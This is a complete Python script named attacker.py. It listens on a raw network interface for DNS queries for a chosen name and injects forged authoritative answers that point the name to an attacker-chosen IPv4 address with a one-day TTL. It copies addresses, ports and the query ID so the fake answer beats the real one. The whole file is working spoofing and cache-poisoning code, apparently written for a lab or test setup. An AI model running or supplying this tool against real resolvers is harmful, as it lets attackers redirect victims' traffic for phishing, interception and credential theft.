#!/usr/bin/env python3
"""An attacker on the path between a resolver and the authoritative servers, who forges one answer.

    attacker.py INTERFACE NAME ADDRESS

Watches the frames that arrive at INTERFACE, which is one end of a wire. Answers each query for the
IPv4 addresses of NAME immediately, with ADDRESS and a TTL of one day. To pose as the server that was
asked, it copies the addresses, port and ID from the query. It stops nothing, so the real answer
arrives too, a little later. Prints `ready` once it's watching.
"""

import socket
import struct
import sys

ETH_P_ALL = 3
PACKET_OUTGOING = 4
ETH_HEADER = 14
UDP = 17
DNS_PORT = 53
DNS_HEADER = 12
IS_AUTHORITATIVE_RESPONSE = 0x8400
TYPE_A_CLASS_IN = b"\x00\x01\x00\x01"
TTL = 86400


def encode(name):
    labels = name.rstrip(".").split(".")
    return b"".join(bytes([len(label)]) + label.encode() for label in labels) + b"\x00"


def checksum(header):
    total = sum(struct.unpack(f"!{len(header) // 2}H", header))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def forge(frame, question, address):
    """Returns the frame that answers `frame`, or None if `frame` doesn't ask `question`."""
    if frame[12:14] != b"\x08\x00" or frame[23] != UDP:
        return None
    start = ETH_HEADER + (frame[14] & 15) * 4
    source_port, target_port = struct.unpack("!HH", frame[start : start + 4])
    message = frame[start + 8 :]
    asked = message[DNS_HEADER : DNS_HEADER + len(question)]
    if target_port != DNS_PORT or asked.lower() != question:
        return None
    header = message[:2] + struct.pack("!5H", IS_AUTHORITATIVE_RESPONSE, 1, 1, 0, 0)
    pointer_to_name = b"\xc0\x0c"
    answer = pointer_to_name + TYPE_A_CLASS_IN + struct.pack("!IH", TTL, 4) + address
    payload = header + asked + answer
    # A checksum of zero means that there isn't one.
    udp = struct.pack("!4H", target_port, source_port, 8 + len(payload), 0) + payload
    addresses = frame[30:34] + frame[26:30]
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(udp), 0, 0, 64, UDP, 0) + addresses
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return frame[6:12] + frame[:6] + frame[12:14] + ip + udp


def main():
    interface, name, address = sys.argv[1:]
    question = encode(name) + TYPE_A_CLASS_IN
    watched = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    watched.bind((interface, 0))
    print("ready", flush=True)
    while True:
        frame, source = watched.recvfrom(65535)
        if source[2] == PACKET_OUTGOING:
            continue
        forged = forge(frame, question, socket.inet_aton(address))
        if forged:
            watched.send(forged)


main()
